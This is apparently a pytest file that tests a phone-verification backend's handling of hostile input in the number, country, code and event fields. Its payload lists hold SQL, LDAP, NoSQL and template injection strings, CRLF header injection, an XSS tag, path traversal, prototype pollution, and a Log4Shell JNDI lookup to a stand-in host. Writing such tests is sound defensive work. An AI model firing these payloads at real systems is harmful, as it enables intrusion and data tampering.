"""F: hostile text in the fields. The provider gets ASCII digits or nothing."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest

from tests.backend.client import STATE, frame

if TYPE_CHECKING:
    from tests.attacks.world import World

BAD_NUMBERS = [
    "²²²²²²²²²²",
    "½½½½½½½½½½",
    "一二三四五六七八九十",
    "+1 212 555 0100\x00",
    "+1 212 555 0100\r\nSet-Cookie: a=b",
    "\x1b[31m+1 212 555 0100",
    "+1 212 555 0100' OR '1'='1",
    "'; DROP TABLE verifications; --",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "%s%n{0}{0.__class__}",
    "../../v2/verify",
    "*)(uid=*",
    "1e999",
    "NaN",
    "true",
    "null",
    "[]",
    "0x0cc175b9",
    "<img src=x onerror=alert(1)>",
    "+" * 60,
    "9" * 64,
    "9" * 5000,
    " " * 5000,
]
BAD_CODES = [
    "²²²²²²",
    "½½½½½½",
    "12345",
    "1234567",
    "12345a",
    "",
    "\x00" * 6,
    "0x1234",
    "1e5",
    "-12345",
]
BAD_CODES += ["true", "null", "[]", "'; --", "9" * 501, "1" * 5000, "\u0661\u0662\u0663"]
BAD_FIELDS = [
    None,
    True,
    12345,
    1e308,
    [],
    ["1"],
    {},
    {"$ne": ""},
    {"__proto__": {"step": "verified"}},
]


@pytest.mark.parametrize("text", BAD_NUMBERS, ids=ascii)
def test_what_is_no_number_is_a_mistake_and_stays_a_text(world: World, text: str) -> None:
    """F1, F2, F3, F5."""
    answer = world.attacker().ask(text, country="US")

    assert answer.status == 422
    assert "<img" not in answer.text
    assert "49" not in re.sub(r'value="[^"]*"', "", answer.text).partition("Error:")[2][:200]
    assert world.asked("twilio.start") == []


@pytest.mark.parametrize("text", ["' OR 1=1", "%s{0}", "zz", "U\x00S", "../..", "<b>", "x" * 4000])
def test_what_is_no_country_and_no_channel_is_a_mistake(world: World, text: str) -> None:
    """F3, F5."""
    me, number = world.attacker(), world.number()
    assert me.ask(number.national, country=text).status == 422
    assert me.ask(number.e164, channel=text).status == 422
    assert world.sent() == 0


def test_what_is_no_code_costs_nothing_and_is_not_asked(world: World) -> None:
    """F1, F2, F3: the texts are sent in a form."""
    me, number = world.attacker(), world.number()
    me.ask(number.e164)

    assert {me.guess(text).status for text in BAD_CODES} == {422}
    assert world.guesses == 0
    assert me.guess(world.code(number)).is_yes


def test_digits_of_any_script_are_the_same_code(world: World) -> None:
    """F1: a code copied from a message may have other digits; the provider gets ASCII."""
    me, number = world.attacker(), world.number()
    me.ask(number.e164)
    arabic = "".join(chr(ord(digit) - ord("0") + 0x0660) for digit in world.wrong(number))

    assert me.guess(arabic).status == 409
    assert me.guess(f"\u202e{arabic}\u200b").status == 409
    assert [check.body["Code"] for check in world.asked("twilio.check")] == [
        world.wrong(number)
    ] * 2


def test_what_is_no_text_is_no_code_and_no_number(world: World) -> None:
    """F4: the value is sent in an event and can be any JSON."""
    me, number = world.attacker(), world.number()
    me.ask(number.e164)
    for value in BAD_FIELDS:
        with me.tab("/code") as tab:
            shown = tab.state(tab.send(f"{STATE}.check_code", {"form": {"code": value}}, "/code"))
            assert "code" in shown["error"].lower()
            tab.send(f"{STATE}.request_code", {"form": {"phone": value, "country": value}})

    assert (world.sent(), world.guesses) == (1, 0)
    assert me.guess(world.code(number)).is_yes


@pytest.mark.parametrize("number", ["NaN", "1e999", "-Infinity", "[" * 1500 + "]" * 1500])
def test_json_that_is_none_harms_nobody(world: World, number: str) -> None:
    """F4."""
    event = frame(f"{STATE}.check_code", {"form": {"code": "here"}}).replace('"here"', number)
    with world.attacker().tab() as tab:
        tab.session.send_text(event)
        tab.flush()

    assert world.guesses == 0
